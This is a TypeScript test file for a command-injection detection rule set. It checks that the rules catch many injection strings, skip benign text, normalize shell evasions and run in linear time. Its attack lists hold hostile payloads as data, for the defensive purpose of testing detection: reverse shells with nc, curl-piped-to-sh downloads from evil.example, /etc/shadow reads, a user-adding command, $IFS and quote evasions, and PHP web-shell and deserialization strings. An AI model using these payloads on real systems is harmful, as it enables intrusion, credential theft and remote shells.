import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules, shellNormalize } from './cmdi.ts';
import { matchAll, timeAll, ruleMetaProblems } from './lib/testing.ts';

test('rule metadata is well formed', () => {
  assert.deepEqual(ruleMetaProblems(rules), []);
});

test('detects commands after separators, substitutions and evasions', () => {
  const attacks = [
    'foo;id',
    'x; id;',
    'a | cat /etc/shadow',
    "'| uname -a",
    'x && dir c:\\',
    'x || whoami',
    'x%0aid',
    'host%0Als -la /',
    '1.2.3.4 & ping -n 30 127.0.0.1 &',
    '`id`',
    'a=$(whoami)',
    '$(curl -s http://evil.example/x.sh)',
    "x;c''at /etc/hosts",
    'x;c\\at /etc/hosts',
    'x;cat$IFS/etc/hosts',
    'x;cat${IFS}/etc/hosts',
    'x;{cat,/etc/hosts}',
    'x;/???/??t /etc/hosts',
    'x;wh$()oami', 'x;who$@ami', 'x;wh$1oami', 'x;wh``oami', 'x;wh\\\noami',
    'x;/usr/bin/id',
    'x | type C:\\boot.ini',
    'x & net user hacker P4ss /add',
    'x; powershell -enc SQBFAFgA',
    'cmd /c whoami',
    '() { :;}; /bin/bash -c "id"',
    'x; sleep 10',
    'x; nc -e /bin/sh 10.0.0.1 4444',
    'who^ami & ver',
    'x & nslookup abc.oast.example &',
    'x; curl evil.example/x.sh | sh',
    ';echo${IFS}vulnerable',
    '127.0.0.1|busybox nc 10.0.0.1 80',
    'x\\n\\033[2Acurl https://evil.example/x.sh',
    'x\n\u001b[1;31mwget http://evil.example/a',
  ];
  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
});

test('detects values that are command lines, and PHP code', () => {
  const attacks = [
    'cat /etc/hosts',
    'ls -la /var/www',
    'nc -lvvp 4444 -e /bin/sh',
    'whoami',
    'ipconfig /all',
    'ping -c 30 127.0.0.1',
    '<?php system($_GET["c"]); ?>',
    "system('id')",
    'shell_exec("ls")',
    'phpinfo()',
    '${@print(md5(x))}',
    '{${phpinfo()}}',
    "os.system('id')",
    'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
    'a:1:{i:0;O:+4:"Evil":0:{}}',
    'Tzo0OiJFdmlsIjowOnt9', // base64 of O:4:"Evil":0:{}
  ];
  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
});

test('does not flag benign text, code spans and ordinary field values', () => {
  const benign = [
    'Tom & Jerry',
    'R&D; type A and B',
    'fish & chips | more later',
    'See the `id` and `type` fields; they are required.',
    'id',
    'pwd',
    'hostname',
    'name,id,email',
    'last / lowest priority',
    'java --version',
    'print("hello from a python script!")',
    'The system (as designed) works',
    'Please ping me at 5pm; cat lovers welcome',
    'Sleep well; see you tomorrow',
    'Q&A session',
    'C:\\Users\\report.docx',
    'echo chamber',
    'x=1&y=2',
    "      'type': 'object',",
    'which Node.js versions provide a given Node-API version',
    'you must run `node --http-parser=legacy` to monkey-patch',
    'a pattern like `x:/*` or `//host/share/*` will match',
    'Set $IFS in your shell profile',
  ];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
  // paranoia 2 adds the looser start-of-value rule
  assert.ok(matchAll(rules, 'java --version', 'query', 2).includes('932160'));
});

test('shellNormalize removes quote, backslash and IFS evasions', () => {
  assert.equal(shellNormalize("c''at"), 'cat');
  assert.equal(shellNormalize('c\\at'), 'cat');
  assert.equal(shellNormalize('cat$IFS/etc'), 'cat /etc');
  assert.equal(shellNormalize('{cat,/etc/x}').trim(), 'cat /etc/x');
  // expansions that are empty inside a word, and line continuations
  for (const w of ['wh$()oami', 'who$@ami', 'wh$1oami', 'who$*ami', 'wh``oami', 'wh\\\noami']) assert.equal(shellNormalize(w), 'whoami', w);
  // not inside a word: kept (prose with prices, code)
  assert.equal(shellNormalize('costs $1 today'), 'costs $1 today');
  assert.equal(shellNormalize('use `code` here'), 'use `code` here');
});

test('linear time on 64 KiB pathological input', () => {
  const inputs = [';'.repeat(65536), '; id'.repeat(16384).slice(0, 65536), '`'.repeat(65536), '$('.repeat(32768), "c''".repeat(21845), '{cat,'.repeat(13107), '/?'.repeat(32768), 'system('.repeat(9362), '()'.repeat(32768), 'a'.repeat(65536)];
  for (const s of inputs) {
    const ms = timeAll(rules, s);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
});
